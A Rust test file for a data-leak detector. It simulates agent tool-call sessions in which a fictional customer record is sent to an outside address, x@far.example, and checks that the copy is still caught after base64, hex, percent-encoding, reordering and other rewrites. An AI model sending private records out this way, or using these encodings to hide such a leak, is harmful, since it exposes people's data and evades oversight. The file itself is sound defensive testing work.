//! Copies of private data are found again however they are written; what texts share by nature is not.

use crate::call_cases::signals;
use serde_json::json;
use std::fmt::Write;

/// Words to make records and letters of; no two records share a row of them.
const FIRST: [&str; 12] = [
    "Ifeoma", "Tomasz", "Priya", "Joaquin", "Svetlana", "Kwabena", "Liesel", "Mariko", "Anselm", "Zubair",
    "Oddny", "Caoimhe",
];
const LAST: [&str; 12] = [
    "Okonkwo",
    "Wisniewski",
    "Raghunathan",
    "Echeverria",
    "Morozova",
    "Asante",
    "Brandstetter",
    "Takahashi",
    "Vogelsang",
    "Qureshi",
    "Halvorsen",
    "Gallagher",
];
const MATTER: [&str; 12] = [
    "appendix rupture surgery scheduled at Lindqvist clinic",
    "arbitration against Corvane Shipping settled quietly",
    "prototype turbine blades cracked during Mistral trials",
    "salary band corrected after the Ferrand audit",
    "warehouse lease in Gdynia terminated without penalty",
    "allergy to penicillin confirmed by Dr Abernathy",
    "acquisition of Brightwater Analytics priced at ninety",
    "divorce hearing moved to the Kilmainham courthouse",
    "encryption escrow kept with notary Bellingham",
    "visa sponsorship withdrawn by Oakhurst Holdings",
    "asbestos found beneath the Tarragona refinery annex",
    "whistleblower interview recorded near Pontevedra harbour",
];

fn record(number: usize) -> [(&'static str, String); 4] {
    let pick =
        |list: &[&str], salt: usize| list[(number * 7 + salt * 5 + number / 12) % list.len()].to_owned();
    let (first, last) = (pick(&FIRST, 1), pick(&LAST, 2));
    let account = format!("AC{:08}", 10_203_040 + number * 7919);
    let mail = format!("{}.{}{number}@mail.example", first.to_lowercase(), last.to_lowercase());
    [
        ("name", format!("{first} {last}")),
        ("account", account),
        ("mail", mail),
        ("matter", pick(&MATTER, number)),
    ]
}

/// The record as the private tool returns it.
fn stored(number: usize) -> String {
    let fields = record(number);
    let members: Vec<String> = fields.iter().map(|(key, value)| format!("\"{key}\": \"{value}\"")).collect();
    format!("{{{}}}", members.join(", "))
}

fn is_found(stored: &str, sent: &str) -> bool {
    let session = json!({"calls": [
        {"server": "records", "tool": "get_customer_record", "arguments": {}, "result": stored},
        {"server": "post", "tool": "send_message", "arguments": {"to": "x@far.example", "text": sent}, "result": "ok"},
    ]});
    signals(&session).iter().any(|signal| signal.check == "flow.internal_to_external")
}

fn base64(text: &str) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for three in text.as_bytes().chunks(3) {
        let bits =
            three.iter().fold(0u32, |sum, byte| sum << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
        for place in 0..4 {
            let letter = LETTERS[(bits >> (18 - 6 * place) & 63) as usize];
            out.push(if place <= three.len() { char::from(letter) } else { '=' });
        }
    }
    out
}

fn spelt(text: &str, lead: &str, is_kept: impl Fn(u8) -> bool) -> String {
    let mut out = String::new();
    for byte in text.bytes() {
        match is_kept(byte) {
            true => out.push(char::from(byte)),
            false => write!(out, "{lead}{byte:02x}").expect("a string takes everything"),
        }
    }
    out
}

/// One way of writing a record elsewhere.
type Rewriting = fn(usize) -> String;

const REWRITINGS: [(&str, Rewriting); 9] = [
    ("cut to forty characters", |n| record(n)[3].1.chars().take(40).collect()),
    ("as CSV", |n| record(n).map(|(_, value)| value).join(";")),
    ("inside prose", |n| format!("By the way, I heard that {} and wanted you to know.", record(n)[3].1)),
    ("in capitals", |n| record(n)[3].1.to_uppercase()),
    ("with other blanks", |n| record(n)[3].1.replace(' ', "\n   ")),
    ("as base64", |n| base64(&stored(n))),
    ("as hex", |n| spelt(&stored(n), "", |_| false)),
    ("as percent escapes", |n| spelt(&stored(n), "%", |byte| byte.is_ascii_alphanumeric())),
    ("in another order", |n| {
        let mut fields = record(n);
        fields.reverse();
        fields.iter().map(|(key, value)| format!("{key}={value}")).collect::<Vec<_>>().join("&")
    }),
];

#[test]
fn copies_are_found_however_they_are_written() {
    const RECORDS: usize = 36;
    let mut missed = Vec::new();
    for (name, rewrite) in REWRITINGS {
        let lost = (0..RECORDS).filter(|number| !is_found(&stored(*number), &rewrite(*number))).count();
        println!("{name}: {} of {RECORDS} found", RECORDS - lost);
        if lost > 0 {
            missed.push((name, lost));
        }
    }
    let lost: usize = missed.iter().map(|(_, lost)| lost).sum();
    let share = 1.0 - lost as f64 / (RECORDS * REWRITINGS.len()) as f64;
    assert!(share >= 0.93, "{share:.3} found; missed: {missed:?}");
}

#[test]
fn unrelated_texts_are_not_matched() {
    let mut matched = 0;
    let mut pairs = 0;
    for one in 0..36 {
        for other in (0..36).filter(|other| record(*other)[3] != record(one)[3]) {
            let sent = format!("{} is about {}", record(other)[1].1, record(other)[3].1);
            pairs += 1;
            matched += usize::from(is_found(&stored(one), &sent));
        }
    }
    println!("unrelated texts: {matched} of {pairs} matched");
    assert!(matched * 200 <= pairs, "{matched} of {pairs}");
}

#[test]
fn what_every_letter_shares_is_no_trace() {
    const LETTERS: [&str; 8] = [
        "Dear all, thank you for your time. Please let me know if you have any questions. Best regards",
        "Hi team, please find attached the document for review. Looking forward to hearing from you soon.",
        "This message is confidential and intended only for the recipient. If you received it in error, please delete it.",
        "Your order has been received. You will get an update by email once the status is changed.",
        "Thank you for contacting customer support. We will reply within two days.",
        "status: active, created: 2024-05-15T10:30:00Z, updated: 2024-05-16T08:00:00Z, total: 12",
        "Hello everyone, the meeting on Monday is moved to Tuesday at 10:30 in the main room. Thanks",
        "Click here to view the website or unsubscribe. All rights reserved. Terms and conditions apply.",
    ];
    let matched =
        LETTERS.iter().filter(|letter| is_found(&format!("{letter} {}", stored(3)), letter)).count();
    println!("what every letter shares: {matched} of {} matched", LETTERS.len());
    assert_eq!(matched, 0);
}
